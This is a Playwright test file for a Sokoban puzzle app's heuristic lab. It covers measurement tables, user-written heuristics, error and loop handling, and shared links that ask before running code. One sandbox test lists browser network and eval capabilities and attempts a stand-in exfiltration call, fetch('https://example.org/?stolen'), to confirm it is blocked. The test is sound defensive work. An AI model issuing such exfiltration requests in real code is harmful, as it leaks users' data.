// The heuristic lab shows what the engine measures, and says so when a level is too large.
import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { ask } from './engine';
import { builtIn } from './puzzles';
import { hasBrowser, oneVisit, type Visit } from './site';

const LEVEL = 'sokoban/10';

describe.skipIf(!hasBrowser)('the heuristic lab', () => {
  let visit: Visit;
  let page: Page;
  oneVisit(async (opened) => {
    [visit, page] = [opened, opened.page];
  });

  test('estimates against the truth, as the engine has them', async () => {
    await visit.go(`watch/${LEVEL}`);
    await page.locator('[data-lab]').click();
    await page.locator('[data-lab-phase="idle"]').waitFor();
    await page.locator('form button[type="submit"]').click();
    await page.locator('[data-lab-phase="done"][data-complete="true"]').waitFor({ timeout: 60_000 });
    const report = ask({ ask: 'heuristics', level: builtIn(LEVEL), limits: { nodes: 200_000 } });
    expect(await page.locator('[data-figures] tbody tr').count()).toBe(report.heuristics.length);
    await page.getByText(`${report.states.toLocaleString('en')} states`).waitFor();
    for (const { name, admissible, consistent, detail } of report.heuristics) {
      await page.locator(`[data-choice="${name}"]`).click();
      await page.locator(`[data-heuristic="${name}"][data-admissible="${admissible}"][data-consistent="${consistent}"]`).waitFor();
      expect(await page.locator('[data-scatter] circle').count()).toBe(detail?.pairs.length);
      expect(await page.locator('[data-sightings="worst"] canvas').count()).toBe(detail?.worst.length);
      expect(await page.locator('[data-sightings="overestimates"] canvas').count()).toBe(detail?.overestimates.length);
      expect(await page.locator('[data-falls] canvas').count()).toBe(2 * (detail?.inconsistencies.length ?? 0));
    }
    expect(await page.locator('[data-pair]').count()).toBe(report.dominance?.length);
    // Another space is not what was measured.
    await page.locator('select[name="space"]').selectOption('step');
    await page.locator('[data-changed]').waitFor();
  });

  /** Opens the lab with a heuristic of the person's own in it, and has it checked. */
  async function check(script: string): Promise<void> {
    await visit.go(`heuristics/${LEVEL}`);
    await page.evaluate((text) => localStorage.setItem('solvarium:scripts:used', JSON.stringify({ version: 1, value: { sokoban: text } })), script);
    await page.reload();
    await page.locator('[data-write]').click();
    await page.locator('[data-check]:not([disabled])').click();
  }

  test('an own heuristic that is not admissible is exposed with a counter-example', async () => {
    await check('function heuristic() { return 0; }');
    await page.locator('[data-heuristic="own"][data-admissible="true"]').waitFor({ timeout: 60_000 });
    await page.locator('.cm-content').fill('function heuristic(state) { return 100 * state.boxes.length; }');
    await page.locator('[data-changed]').waitFor();
    await page.locator('[data-check]').click();
    await page.locator('[data-heuristic="own"][data-admissible="false"]').waitFor({ timeout: 60_000 });
    expect(await page.locator('[data-sightings="overestimates"] canvas').count()).toBeGreaterThan(0);
    expect(await page.locator('[data-verdict="admissible"]').innerText()).toContain('Not admissible');
  });

  test('an exception is shown with its line, and an endless loop is ended', async () => {
    await check('function heuristic(state) {\n  let sum = 0;\n  return sum + state.boxen.length;\n}');
    await page.locator('[role="alert"]', { hasText: 'line 3' }).waitFor({ timeout: 60_000 });
    await page.locator('.cm-wrong').waitFor();
    await check('function heuristic() {\n  for (;;);\n}');
    await page.getByText('Your heuristic did not answer').waitFor({ timeout: 60_000 });
    await check('function heuristic() { return 0; }');
    await page.locator('[data-heuristic="own"]').waitFor({ timeout: 60_000 });
  });

  test('nothing but the language is there', async () => {
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    const names = ['fetch', 'XMLHttpRequest', 'WebSocket', 'importScripts', 'indexedDB', 'caches', 'navigator', 'postMessage', 'eval', 'Function', 'document', 'self'];
    const script = `
      const left = ${JSON.stringify(names)}.filter((name) => globalThis[name] !== undefined);
      let made = 0;
      for (const maker of [() => {}, async () => {}, function* () {}]) {
        try { maker.constructor('return 1'); made++; } catch {}
      }
      try { globalThis.fetch('https://example.org/?stolen'); } catch {}
      function heuristic() {
        if (left.length || made) throw new Error('there is still ' + left + made);
        return 0;
      }`;
    await check(script);
    await page.locator('[data-heuristic="own"][data-admissible="true"]').waitFor({ timeout: 60_000 });
    expect(asked.filter((url) => url.includes('example.org'))).toEqual([]);
  });

  test('it is watched like the others, and a link with a program asks first', async () => {
    await check('function heuristic(state, level) { return state.boxes.filter((cell) => !level.goals.includes(cell)).length; }');
    await page.locator('[data-heuristic="own"]').waitFor({ timeout: 60_000 });
    await visit.go(`watch/${LEVEL}`);
    await page.locator('select[name="algorithm"]').selectOption('astar');
    await page.locator('select[name="heuristic"]').selectOption('own');
    await page.locator('button[type="submit"]').click();
    await page.locator('[data-outcome="solved"]').waitFor({ timeout: 60_000 });

    const request = { algorithm: 'astar', heuristic: 'own', script: '/* from afar */ function heuristic() { return 0; }' };
    const { link } = ask({ ask: 'make-link', shared: { level: builtIn(LEVEL), view: { page: 'watch', request } } });
    await visit.go(link.replace(/^#\//, ''));
    await page.locator('[data-foreign] pre', { hasText: 'from afar' }).waitFor();
    expect(await page.locator('[data-outcome]').count()).toBe(0);
    await page.locator('[data-accept]').click();
    await page.locator('[data-outcome="solved"]').waitFor({ timeout: 60_000 });
  });

  test('a level that is too large says so, with its limit and the states seen', async () => {
    await visit.go('heuristics/sokoban/29');
    await page.locator('[data-lab-phase="idle"]').waitFor();
    await page.locator('form details summary').last().click();
    await page.locator('input[name="nodes"]').fill('1000');
    await page.locator('form button[type="submit"]').click();
    await page.locator('[data-lab-phase="done"][data-complete="false"]').waitFor({ timeout: 60_000 });
    const { states } = ask({ ask: 'heuristics', level: builtIn('sokoban/29'), limits: { nodes: 1000 } });
    await page.getByText(`after ${states.toLocaleString('en')} states`).waitFor();
    expect(await page.locator('[data-figures]').count()).toBe(0);
  });
});
